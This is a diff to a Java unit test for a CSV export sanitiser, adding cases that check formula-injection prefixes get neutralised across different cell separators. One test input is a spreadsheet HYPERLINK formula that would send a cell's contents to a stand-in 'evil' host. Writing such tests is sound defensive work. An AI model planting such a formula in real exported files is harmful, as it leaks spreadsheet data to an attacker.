@@ -14,6 +14,7 @@ import java.util.List;
 import java.util.Set;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class CsvExportTest {
@@ -33,9 +34,28 @@ class CsvExportTest {
 
   @ParameterizedTest
   @ValueSource(
-      strings = {"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\n=x", "＝1", "＋1", "－1", "＠x"})
+      strings = {"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "＝1", "＋1", "－1", "＠x"})
   void neutralisesWhatASpreadsheetWouldCompute(String text) {
     assertThat(CsvText.of(text)).isEqualTo("'" + text);
+  }
+
+  /** To be read where cells end at a semicolon, and with quotes doubled as they are in the file. */
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '`',
+      value = {
+        "x;=HYPERLINK(\"http://evil/?\"&A1);y | x;'=HYPERLINK(\"http://evil/?\"&A1);y",
+        "x;@a;+b;-c;=d | x;'@a;'+b;'-c;'=d",
+        "x;\"=1+1\" | x;\"'=1+1\"",
+        "=a;=b | '=a;'=b",
+        "x;\uff1da | x;'\uff1da",
+        "a;b; c - d;1-2 | a;b; c - d;1-2"
+      })
+  void neutralisesWhatBeginsACellForAnotherReader(String text, String expected) {
+    assertThat(CsvText.of(text)).isEqualTo(expected);
+    assertThat(CsvText.of(text.replace(';', '\n'))).isEqualTo(expected.replace(';', '\n'));
+    assertThat(CsvText.of(text.replace(';', '\t'))).isEqualTo(expected.replace(';', '\t'));
   }
 
   @ParameterizedTest
